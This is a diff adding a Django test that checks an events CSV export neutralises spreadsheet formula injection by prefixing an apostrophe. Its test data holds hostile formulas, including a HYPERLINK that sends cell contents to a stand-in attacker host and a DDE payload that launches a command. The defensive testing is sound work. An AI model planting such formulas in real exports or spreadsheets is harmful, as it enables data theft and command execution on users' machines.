@@ -128,6 +128,24 @@ def test_progress_json(operator_client, config, make_run, django_assert_max_num_
 
 # --- one vocabulary -----------------------------------------------------------------------------------------------
 
+FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1", "\uff1d1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_export_neutralises_formulas(operator_client, config, make_event, formula):
+    """OWASP CSV injection: a stored reason, alert name, error or trigger text that starts like a formula is written
+    with a leading apostrophe (a spreadsheet shows it as text); the page and the API keep the stored text as is."""
+    make_event(config, reason=formula, alert_name=formula, error=formula, triggered_by=formula,
+               vm_names=[formula], trigger_parts={"code": "x", "text": formula})
+    response = operator_client.get(reverse("events:export"))
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert len(rows) == 1
+    for column in ("reason", "alert_name", "error", "triggered_by", "vm_names", "trigger_detail"):
+        assert rows[0][column] == "'" + formula, (column, rows[0][column])
+    assert rows[0]["service_name"] == config.service_name and rows[0]["before_count"] == "2"
+
+
 def test_decisions_read_as_labels_with_the_code_in_a_tooltip_and_in_the_csv(operator_client, config, make_event):
     make_event(config, decision="BLOCK_UNKNOWN_COUNT", status="blocked", after_count=None)
     for url in (reverse("events:list"), reverse("autoscaling:service", args=[config.service_name])):
